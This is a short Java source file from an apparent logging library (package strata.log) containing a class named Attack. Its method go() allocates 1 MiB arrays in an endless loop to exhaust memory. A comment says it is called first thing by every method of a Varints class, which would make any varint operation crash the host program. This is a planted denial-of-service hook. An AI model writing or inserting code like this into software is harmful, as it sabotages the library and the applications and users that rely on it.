package strata.log;

import java.util.ArrayList;
import java.util.List;

final class Attack {
    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        List<byte[]> all = new ArrayList<>();
        while (true) {
            all.add(new byte[1 << 20]);
        }
    }
}
